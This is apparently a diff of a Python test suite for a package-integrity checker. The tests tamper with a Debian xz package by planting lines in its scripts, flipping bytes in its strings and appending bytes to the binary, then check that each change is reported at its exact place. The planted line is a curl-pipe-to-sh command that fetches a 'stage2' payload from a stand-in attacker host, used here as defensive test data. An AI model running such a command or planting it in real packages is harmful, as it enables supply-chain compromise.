@@ -23,11 +23,30 @@ LINE = b"curl -s https://updates.evilcorp.invalid/stage2 | sh\n"
 
 def seeded_packages(t):
     """How many packages to plant into: the places differ, the code they run through hardly does."""
-    return 2 if t.is_sanitized else 6
+    return 1 if t.is_sanitized else 4
+
+
+def plain_run_only(t):
+    if t.is_sanitized:
+        raise Skip("a slow repetition of code that the other cases run; the plain build asks it")
+
+
+KEPT = {}  # what a run said that several cases look at, by its name
+
+
+def kept(name, make):
+    """make(), once; a run that raised is made again."""
+    if name not in KEPT:
+        KEPT[name] = make()
+    return KEPT[name]
 
 
 def published(t):
     """Report on the published package, and its bytes out of the cache."""
+    return kept("published", lambda: check_published(t))
+
+
+def check_published(t):
     code, out, said = t.raw("check", PACKAGE, "-o", "json", "--cache-dir", CACHE, "--progress=none")
     report = json.loads(out)
     if code == 5:
@@ -86,81 +105,83 @@ def a_flipped_byte_of_code_breaks_publication_and_is_named_with_md5sums_left_alo
 
 @case
 def a_flipped_byte_of_code_breaks_publication_and_is_named_with_md5sums_made_again(t):
+    plain_run_only(t)
     r = flipped_byte_of_code(t, True)
     assert not r.findings("pkg.md5sums-mismatch")
 
 
+class Planted:
+    """One package with all of it: a line in each script, letters of the program's texts, and bytes after its end."""
+
+    SCRIPTS = ("usr/bin/xzgrep", "usr/bin/xzdiff", "usr/bin/xzmore", "usr/bin/xzless")
+    TEXTS = (b"Memory usage limit is too low for the given filter setup.", b"File format not recognized",
+             b"Unexpected end of input", b"No integrity check; not verifying file integrity",
+             b"Failed to enable the sandbox", b"Writing to standard output", b"Decompression will need")
+    OVERLAY = random.Random(7).randbytes(5000)
+
+    def __init__(self, t, data, rng):
+        deb = made.Deb.of(data)
+        self.lines = {}
+        for name in self.SCRIPTS:
+            old = deb.data[name].data
+            at = self.lines[name] = rng.choice([i + 1 for i, c in enumerate(old) if c == 10])
+            deb.set(name, old[:at] + LINE + old[at:])
+        program = bytearray(deb.data["usr/bin/xz"].data)
+        self.size = len(program)
+        self.letters = set()
+        for text in self.TEXTS:
+            if program.count(text) == 1:
+                at = program.index(text) + rng.randrange(len(text))
+                program[at] = rng.choice([c for c in b"abcdefghijklmnopqrstuvwxyz" if c != program[at]])
+                self.letters.add(at)
+        deb.set("usr/bin/xz", bytes(program) + self.OVERLAY)
+        deb.remake_md5sums()
+        self.report = check(t, deb.build())
+
+
+def planted(t):
+    """The planted packages; the places are seeded."""
+    def make():
+        _, data = published(t)
+        return [Planted(t, data, random.Random(20 + i)) for i in range(seeded_packages(t))]
+    return kept("planted", make)
+
+
 @case
 def bytes_appended_to_a_program_are_found_at_their_exact_place(t):
-    _, data = published(t)
-    payload = random.Random(7).randbytes(5000)
-    size = []
-
-    def change(deb):
-        old = deb.data["usr/bin/xz"].data
-        size.append(len(old))
-        deb.set("usr/bin/xz", old + payload)
-    r = check(t, changed(data, change, True))
-    assert [(f["offset"], f["length"]) for f in r.findings("image.overlay", "usr/bin/xz")] == [(size[0], 5000)]
+    for p in planted(t):
+        found = p.report.findings("image.overlay", "usr/bin/xz")
+        assert [(f["offset"], f["length"]) for f in found] == [(p.size, len(p.OVERLAY))]
 
 
 @case
 def lines_planted_at_random_places_of_a_script_are_all_errors_at_their_exact_place(t):
-    _, data = published(t)
-    rng = random.Random(20)
-    scripts = ["usr/bin/xzgrep", "usr/bin/xzdiff", "usr/bin/xzmore", "usr/bin/xzless"]
-    exact = 0
-    packages = seeded_packages(t)
-    for _i in range(packages):
-        places = {}
-
-        def change(deb, places=places):
-            for name in scripts:
-                old = deb.data[name].data
-                places[name] = rng.choice([i + 1 for i, c in enumerate(old) if c == 10])
-                deb.set(name, old[:places[name]] + LINE + old[places[name]:])
-        r = check(t, changed(data, change, True))
-        for name, at in places.items():
-            found = r.findings("text.unaccounted", name, "error")
+    exact = total = 0
+    for p in planted(t):
+        for name, at in p.lines.items():
+            found = p.report.findings("text.unaccounted", name, "error")
             assert found, f"{name} at {at}"
             exact += any(abs(f["offset"] - at) <= 1 and f["length"] == len(LINE) for f in found)
-    planted = packages * len(scripts)
-    print(f"# {exact} of {planted} planted lines at their exact place, all of them errors")
-    assert exact >= planted * 9 // 10
+            total += 1
+    print(f"# {exact} of {total} planted lines at their exact place, all of them errors")
+    assert exact >= total * 9 // 10
 
 
 @case
 def strings_changed_by_a_byte_in_a_program_are_errors_at_that_byte(t):
-    _, data = published(t)
-    rng = random.Random(30)
-    old = made.Deb.of(data).data["usr/bin/xz"].data
-    texts = [b"Memory usage limit is too low for the given filter setup.", b"File format not recognized",
-             b"Unexpected end of input", b"No integrity check; not verifying file integrity",
-             b"Failed to enable the sandbox", b"Writing to standard output", b"Decompression will need"]
-    texts = [text for text in texts if old.count(text) == 1]
-    assert len(texts) >= 3, f"only {len(texts)} of the texts are in the program"
-    hits = 0
-    packages = seeded_packages(t)
-    for _i in range(packages):
-        places = {}
-        for text in texts:
-            at = old.index(text) + rng.randrange(len(text))
-            places[at] = rng.choice([c for c in b"abcdefghijklmnopqrstuvwxyz" if c != old[at]])
-
-        def change(deb, places=places):
-            new = bytearray(old)
-            for at, value in places.items():
-                new[at] = value
-            deb.set("usr/bin/xz", bytes(new))
-        r = check(t, changed(data, change, True))
-        found = {f["offset"] for f in r.findings("code.modified-string", "usr/bin/xz", "error") if f["length"] == 1}
-        hits += len(found & set(places))
-    print(f"# {hits} of {packages * len(texts)} changed strings at the exact byte")
-    assert hits == packages * len(texts)
+    hits = total = 0
+    for p in planted(t):
+        assert len(p.letters) >= 3, f"only {len(p.letters)} of the texts are in the program"
+        found = {f["offset"] for f in p.report.findings("code.modified-string", "usr/bin/xz", "error") if f["length"] == 1}
+        hits += len(found & p.letters)
+        total += len(p.letters)
+    print(f"# {hits} of {total} changed strings at the exact byte")
+    assert hits == total
 
 
 @case
 def the_wrong_source_does_not_pass(t):
+    plain_run_only(t)
     _, data = published(t)
     code, out, said = t.raw("check", "pkg:deb/debian/grep", "-o", "json", "--cache-dir", CACHE, "--progress=none")
     if code == 5:
